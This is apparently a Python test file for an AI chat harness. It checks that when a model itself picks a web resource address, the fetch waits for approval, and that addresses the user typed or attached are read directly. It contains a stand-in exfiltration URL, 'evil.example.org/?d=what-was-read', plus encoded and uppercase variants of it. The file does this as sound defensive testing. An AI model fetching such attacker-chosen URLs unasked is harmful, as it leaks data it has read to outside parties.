"""Resources whose addresses are on the web: who chose the address decides whether it is fetched unasked."""

from pathlib import Path

from tests.kit.ledger_file import Ledger
from tests.web.test_resources import HELD, site_with
from windlass.testing import call, say

ON_THE_WEB = "https://docs.example.org/listed"
MADE_UP = "https://evil.example.org/?d=what-was-read"


async def test_an_address_on_the_web_that_the_model_chose_asks_before_a_server_fetches_it(
    tmp_path: Path, ledger: Ledger
) -> None:
    hidden = [{"uri": uri, "text": "page", "listed": False} for uri in (MADE_UP, f"web://{MADE_UP}", "doc://hidden")]
    held = HELD | {"resources": [*HELD["resources"], {"uri": ON_THE_WEB, "text": "page"}, *hidden]}
    async with site_with(tmp_path, ledger, **held) as (site, llm, chat):
        llm.then(call("resource_list", server="ledger"))
        for uri in (ON_THE_WEB, "doc://hidden"):
            llm.then(call("resource_read", server="ledger", uri=uri))
        llm.then(say("Both read."))
        answer = await site.post(f"/conversations/{chat}/chat", {"content": "Look"})
        assert answer["outcome"] == "answered"
        for uri in (MADE_UP, MADE_UP.upper(), f"web://{MADE_UP}", "web://HTTPS%3A%2F%2Fevil.example.org"):
            chat = await site.conversation()
            await site.enable(chat, "echo")
            llm.then(call("resource_read", server="ledger", uri=uri))
            waits = await site.call("POST", f"/conversations/{chat}/chat", {"content": "Look"})
            assert waits.status == 202, uri
            assert waits.body["pending_calls"][0]["rule"] == "it sends something, and nothing allows that yet"
        chat = await site.conversation()
        await site.enable(chat, "echo")
        llm.then(call("resource_read", server="ledger", uri=MADE_UP), say("Read."))
        named = await site.post(f"/conversations/{chat}/chat", {"content": f"Read {MADE_UP}"})
        assert named["outcome"] == "answered", "the person wrote it"
        llm.then(say("Read."))
        attached = {"content": "Look", "attachments": [{"server": "ledger", "uri": f"web://{MADE_UP}"}]}
        assert (await site.post(f"/conversations/{chat}/chat", attached))["outcome"] == "answered"
